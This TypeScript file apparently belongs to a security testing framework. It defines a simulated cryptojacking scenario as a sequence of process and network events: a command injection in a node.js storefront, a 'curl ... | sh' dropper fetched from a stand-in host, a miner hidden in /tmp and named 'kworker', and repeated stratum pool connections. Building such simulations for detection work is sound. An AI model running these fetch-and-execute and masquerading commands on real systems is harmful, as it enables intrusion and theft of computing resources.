/** Cryptojacking: someone else's workload mining on our nodes or in our account. */

import type { AttackScenario } from '../scenario.js';
import { Script } from '../script.js';

const DROPPER_HOST = '203.0.113.66';
const POOL = ['198.51.100.23', 3333] as const;

/** A command injection in the storefront runs a dropper; the miner is named like a kernel thread. */
const webRce: AttackScenario = {
  kind: 'attack',
  id: 'cryptojacking-webapp-rce',
  intent: 'cryptojacking',
  title: 'Miner dropped through a command injection in the web app',
  description:
    'The storefront (node.js) runs a shell from a crafted request; the shell pipes a downloaded script into sh, which fetches a binary into a hidden /tmp directory, makes it executable and starts it as "kworker" with stratum options; the miner then keeps connecting to a pool on port 3333.',
  techniques: ['T1190', 'T1059.004', 'T1105', 'T1036.005', 'T1496.001'],
  durationMs: 12 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const pod = s.pod('storefront');
    const server = s.main(pod);
    const sh = s.exec(server, 0, '/bin/sh', `-c "curl -fsSL http://${DROPPER_HOST}/ldr.sh | sh"`);
    const curl = s.exec(sh, 0.2, '/usr/bin/curl', `-fsSL http://${DROPPER_HOST}/ldr.sh`);
    s.connect(curl, 0.3, DROPPER_HOST, 80);
    s.exit(curl, 0.9);
    const sh2 = s.exec(sh, 1, '/bin/sh', '');
    const mkdir = s.exec(sh2, 1.2, '/bin/mkdir', '-p /tmp/.X11-unix/.cache');
    s.exit(mkdir, 1.25);
    const get = s.exec(sh2, 1.5, '/usr/bin/curl', `-fsSL -o /tmp/.X11-unix/.cache/kworker http://${DROPPER_HOST}/k`);
    s.connect(get, 1.6, DROPPER_HOST, 80);
    s.open(get, 1.7, '/tmp/.X11-unix/.cache/kworker', 5);
    s.write(get, 2.5, '/tmp/.X11-unix/.cache/kworker');
    s.exit(get, 4);
    const chmod = s.exec(sh2, 4.2, '/bin/chmod', '+x /tmp/.X11-unix/.cache/kworker');
    s.exit(chmod, 4.25);
    const miner = s.exec(sh2, 5, '/tmp/.X11-unix/.cache/kworker', `-o stratum+tcp://${POOL[0]}:${POOL[1]} -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 -B`);
    s.exit(sh2, 5.1);
    s.exit(sh, 5.2);
    for (let k = 0; k < 20; k++) s.connect(miner, 6 + k * 35, POOL[0], POOL[1]);
    s.read(miner, 7, '/proc/cpuinfo');
    s.read(miner, 7.1, '/sys/devices/system/cpu/online');
    return s.out;
  },
};

export const CRYPTOJACKING: readonly AttackScenario[] = [webRce];
